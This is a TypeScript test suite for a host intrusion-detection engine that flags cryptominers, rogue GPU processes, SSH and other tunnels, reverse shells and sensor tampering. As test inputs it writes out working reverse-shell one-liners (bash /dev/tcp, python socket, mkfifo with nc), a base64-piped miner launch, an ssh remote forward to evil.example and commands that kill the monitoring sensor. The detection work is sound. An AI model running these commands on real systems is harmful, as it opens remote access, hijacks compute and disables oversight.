import { test } from 'node:test';
import assert from 'node:assert/strict';
import { builtinEngine, connect, exec, fire, gpu } from '../testing.js';

const b64 = (s: string) => Buffer.from(s).toString('base64');

test('miner.exec: by name, by stratum URL, by pool host, by flags, base64-coded, renamed', () => {
  assert.deepEqual(fire(exec(['xmrig'])), ['miner.exec']);
  assert.deepEqual(
    fire(
      exec([
        '/tmp/.x/kworkerd',
        '-o',
        'stratum+tcp://pool.supportxmr.com:3333',
        '-u',
        '4AdUndXHHZ6',
        '--donate-level=1',
      ]),
    ),
    ['miner.exec'],
  );
  assert.deepEqual(fire(exec(['./systemd-helper', '--url', 'gulf.moneroocean.stream:10128', '--coin', 'monero'])), [
    'miner.exec',
  ]);
  assert.deepEqual(fire(exec(['/dev/shm/a', '-a', 'kawpow', '-o', '10.0.0.5:4444', '-u', 'RVN.worker'])), [
    'miner.exec',
  ]);
  assert.deepEqual(
    fire(exec(['bash', '-c', `echo ${b64('--donate-level=0 -o stratum+ssl://x:443')} | base64 -d | sh`])),
    ['miner.exec'],
  );
  assert.deepEqual(fire(exec(['modprobe', 'msr', 'allow_writes=on'])), ['miner.exec']);
  const { engine, alerts } = builtinEngine();
  engine.process([exec(['/tmp/.x/kworkerd', '-o', 'stratum+tcp://1.2.3.4:3333'])]);
  assert.equal(alerts[0]!.severity, 'critical', 'a renamed miner in a writable place ranks higher');
  assert.match(alerts[0]!.reason, /renamed/);
  assert.deepEqual(alerts[0]!.mitre, ['T1496']);
});

test('miner.exec stays quiet on training and tooling', () => {
  assert.deepEqual(
    fire(
      exec(['python3', 'train.py', '--lr', '3e-4', '-a', 'adamw', '-o', 'out/']),
      exec(['curl', '-fsSL', 'https://pypi.org/simple/torch/']),
      exec(['pip', 'install', 'minerl']),
      exec(['git', 'log', '--author', 'miner']),
    ),
    [],
  );
});

test('miner.pool-connect needs corroboration: a pool port alone is not enough', () => {
  const minerProc = { exe: '/tmp/.x/kworkerd', argv: ['/tmp/.x/kworkerd', '-o', '10.0.0.5:3333'] };
  assert.deepEqual(fire(connect('10.0.0.5', 3333, minerProc)).sort(), ['miner.pool-connect']);
  assert.deepEqual(
    fire(connect('10.0.0.5', 8080, { exe: '/usr/bin/python3', argv: ['python3', '-m', 'http.server'] })),
    [],
  );
  assert.deepEqual(
    fire(connect('10.0.0.5', 443, { exe: '/usr/bin/curl', argv: ['curl', 'https://pool.supportxmr.com'] })),
    ['miner.pool-connect'],
    'a pool host named in argv, any port',
  );
  assert.deepEqual(
    fire(
      connect('127.0.0.1', 8080, { exe: '/usr/bin/curl', argv: ['curl', '-so', '/tmp/x', 'http://127.0.0.1:8080/x'] }),
    ),
    [],
    'a download naming its own destination is no pool',
  );
});

test('gpu.unexpected-process: compute from a writable place or an unexpected binary; training is fine', () => {
  assert.deepEqual(fire(gpu('NV_ESC_RM_ALLOC', 'HOPPER_COMPUTE_A', { exe: '/tmp/x/miner', comm: 'miner' })), [
    'gpu.unexpected-process',
  ]);
  assert.deepEqual(
    fire(gpu('NV_ESC_RM_ALLOC', 'HOPPER_COMPUTE_A', { exe: '/home/u/tools/bin/worker', comm: 'worker' })),
    ['gpu.unexpected-process'],
  );
  assert.deepEqual(fire(gpu('KFD_CREATE_QUEUE', null, { exe: '/dev/shm/k', comm: 'k' })), ['gpu.unexpected-process']);
  assert.deepEqual(
    fire(
      gpu('NV_ESC_RM_ALLOC', 'HOPPER_COMPUTE_A', { exe: '/usr/bin/python3.11', comm: 'python3' }),
      gpu('NV_ESC_RM_ALLOC', 'AMPERE_CHANNEL_GPFIFO_A', {
        exe: '/home/u/miniconda3/envs/train/bin/python3.11',
        comm: 'python3',
      }),
      gpu('NV_ESC_RM_ALLOC', 'NV01_ROOT_CLIENT', { exe: '/tmp/x/miner', comm: 'miner' }),
    ),
    [],
    'expected interpreters; a root-client alloc is not compute',
  );
  const { engine, alerts } = builtinEngine();
  engine.process([
    gpu('NV_ESC_RM_ALLOC', 'HOPPER_COMPUTE_A', {
      exe: '/opt/tools/worker',
      comm: 'worker',
    }),
  ]);
  assert.equal(alerts.length, 0, 'installed under /opt');
  const cfg = builtinEngine({ expectedGpu: { exe: ['/scratch/jobs/**'], cgroup: [] }, sensorPids: () => new Set() });
  cfg.engine.process([gpu('NV_ESC_RM_ALLOC', 'HOPPER_COMPUTE_A', { exe: '/scratch/jobs/42/train', comm: 'train' })]);
  assert.equal(cfg.alerts.length, 0, 'configured expectation');
});

test('gpu.foreign-memory-access', () => {
  assert.deepEqual(fire(gpu('UVM_TOOLS_READ_PROCESS_MEMORY', null, { exe: '/tmp/peek', comm: 'peek' })), [
    'gpu.foreign-memory-access',
  ]);
  assert.deepEqual(
    fire(gpu('UVM_TOOLS_READ_PROCESS_MEMORY', null, { exe: '/usr/local/cuda/bin/ncu', comm: 'ncu' })),
    [],
  );
});

test('tunnel.ssh-forward: -R/-L/-D/-J, combined flags, -o forwards, autossh (ranks in tunnel-ssh.test.ts)', () => {
  for (const argv of [
    ['ssh', '-R', '9000:localhost:22', 'user@evil.example'],
    ['ssh', '-fNR', '2222:127.0.0.1:22', 'a@b'],
    ['ssh', '-NL8080:10.0.0.1:80', 'b'],
    ['ssh', '-D', '1080', 'h'],
    ['ssh', '-J', 'jump', 'h'],
    ['ssh', '-o', 'RemoteForward=9000 localhost:22', 'h'],
    ['ssh', '-oProxyCommand=nc %h %p', 'h'],
    ['autossh', '-M', '0', '-f', '-N', '-R', '8022:localhost:22', 'u@h'],
  ])
    assert.deepEqual(fire(exec(argv)), ['tunnel.ssh-forward'], argv.join(' '));
  assert.deepEqual(
    fire(
      exec(['ssh', '-o', 'BatchMode=yes', 'git@github.com', "git-upload-pack 'org/repo.git'"]),
      exec(['ssh', '-p', '2222', '-i', '/home/u/.ssh/id_ed25519', 'u@login']),
      exec(['ssh', '-p', '443', 'u@h']),
      exec(['ssh', '-l', 'R', 'host']),
      exec(['ssh', '-o', 'GatewayPorts=no', 'host']),
      exec(['scp', '-P', '22', 'a', 'b:']),
    ),
    [],
    'git over ssh, an ordinary login, a port alone, -l taking "R" as its argument',
  );
});

test('tunnel.tool and shell.reverse-cmdline', () => {
  assert.deepEqual(fire(exec(['socat', 'TCP:10.0.0.1:4444', 'EXEC:/bin/bash,pty,stderr,setsid'])), ['tunnel.tool']);
  assert.deepEqual(fire(exec(['ncat', '127.0.0.1', '4444', '-e', '/bin/sh'])), ['tunnel.tool']);
  assert.deepEqual(fire(exec(['nc', '-lvnpe', '/bin/sh', '4444'])), ['tunnel.tool']);
  assert.deepEqual(fire(exec(['chisel', 'client', '1.2.3.4:8000', 'R:socks'])), ['tunnel.tool']);
  assert.deepEqual(fire(exec(['cloudflared', 'tunnel', '--url', 'http://localhost:8888'])), ['tunnel.tool']);
  assert.deepEqual(fire(exec(['ngrok', 'tcp', '22'])), ['tunnel.tool']);
  assert.deepEqual(fire(exec(['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'])), ['shell.reverse-cmdline']);
  assert.deepEqual(
    fire(
      exec([
        'python3',
        '-c',
        'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0)',
      ]),
    ),
    ['shell.reverse-cmdline'],
  );
  assert.deepEqual(fire(exec(['sh', '-c', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f'])), [
    'shell.reverse-cmdline',
  ]);
  assert.deepEqual(
    fire(
      exec(['socat', '-', 'TCP:localhost:80']),
      exec(['nc', '-z', 'localhost', '22']),
      exec(['python3', '-c', 'import socket; print(socket.gethostname())']),
      exec(['cc', '-O2', '-o', 'a.out', 'a.c']),
    ),
    [],
  );
});

test('sensor.tamper by name or pid', () => {
  assert.deepEqual(fire(exec(['pkill', '-9', 'bpftrace'])), ['sensor.tamper']);
  assert.deepEqual(fire(exec(['kill', '-9', '777'])), ['sensor.tamper']);
  assert.deepEqual(fire(exec(['systemctl', 'stop', 'vigil-sensor'])), ['sensor.tamper']);
  assert.deepEqual(fire(exec(['umount', '/sys/kernel/tracing'])), ['sensor.tamper']);
  assert.deepEqual(fire(exec(['kill', '-9', '12345']), exec(['pkill', 'python3'])), []);
});

test('chain: a shell in the job downloads, runs from /tmp, and the binary starts GPU compute — one critical alert with the story', () => {
  const shell = { pid: 5000, comm: 'bash', exe: '/usr/bin/bash', argv: ['bash', '-c', '…'] };
  const job = [
    { pid: 4000, comm: 'python3', exe: '/usr/bin/python3.11', argv: ['python3', 'train.py'] },
    { pid: 1, comm: 'systemd', exe: '/usr/lib/systemd/systemd', argv: [] },
  ];
  const download = exec(['curl', '-so', '/tmp/.cache/x', 'http://203.0.113.9/x'], {
    pid: 5001,
    ancestry: [shell, ...job],
  });
  const run = exec(['/tmp/.cache/x'], { pid: 5002, ancestry: [shell, ...job] });
  const compute = gpu('NV_ESC_RM_ALLOC', 'HOPPER_COMPUTE_A', {
    pid: 5002,
    exe: '/tmp/.cache/x',
    comm: 'x',
    ancestry: [shell, ...job],
  });
  const { engine, alerts } = builtinEngine();
  engine.process([compute, run, download]);
  const chain = alerts.find((a) => a.ruleId === 'chain.shell-download-run');
  assert.ok(chain, alerts.map((a) => a.ruleId).join(','));
  assert.equal(chain.severity, 'critical');
  assert.match(
    chain.reason,
    /slurm:42: bash \(pid 5000\) downloaded with `curl -so \/tmp\/\.cache\/x http:\/\/203\.0\.113\.9\/x`, then ran \/tmp\/\.cache\/x \(pid 5002\), which allocated HOPPER_COMPUTE_A/,
  );
  assert.deepEqual(new Set(chain.evidence), new Set([compute.id, download.id, run.id]));
  assert.ok(alerts.some((a) => a.ruleId === 'gpu.unexpected-process'));
  const quiet = builtinEngine();
  quiet.engine.process([
    exec(['curl', '-so', '/tmp/x', 'http://h/x'], { pid: 6001, ancestry: [shell, ...job] }),
    gpu('NV_ESC_RM_ALLOC', 'HOPPER_COMPUTE_A', {
      pid: 6002,
      exe: '/usr/bin/python3',
      comm: 'python3',
      ancestry: [shell, ...job],
    }),
  ]);
  assert.deepEqual(
    quiet.alerts.map((a) => `${a.ruleId}:${a.severity}`),
    ['gpu.unexpected-process:high'],
    'download, then an installed interpreter from a shell the job spawned: a tool call, no chain (nothing dropped)',
  );
  // A download by a sibling subshell, then a configured training binary in /tmp run by the outer shell.
  const outer = { pid: 7000, comm: 'bash', exe: '/usr/bin/bash', argv: ['bash'] };
  const sub = { pid: 7001, comm: 'bash', exe: '/usr/bin/bash', argv: ['bash', '-c', 'curl …'] };
  const cfg = builtinEngine({ expectedGpu: { exe: ['/tmp/job/**'], cgroup: [] }, sensorPids: () => new Set() });
  cfg.engine.process([
    exec(['curl', '-so', '/tmp/other/x', 'http://h/x'], { pid: 7002, ancestry: [sub, outer, ...job] }),
    gpu('NV_ESC_RM_ALLOC', 'HOPPER_COMPUTE_A', {
      pid: 7003,
      exe: '/tmp/job/bin/trainer',
      comm: 'trainer',
      ancestry: [outer, ...job],
    }),
    gpu('NV_ESC_RM_ALLOC', 'HOPPER_COMPUTE_A', {
      pid: 7004,
      exe: '/tmp/unrelated/tool',
      comm: 'tool',
      ancestry: [outer, ...job],
    }),
  ]);
  assert.deepEqual(
    cfg.alerts.map((a) => `${a.ruleId}:${a.proc?.pid}`),
    ['gpu.unexpected-process:7004'],
    'no chain: expected binary, or a download by another shell that names another file',
  );
});
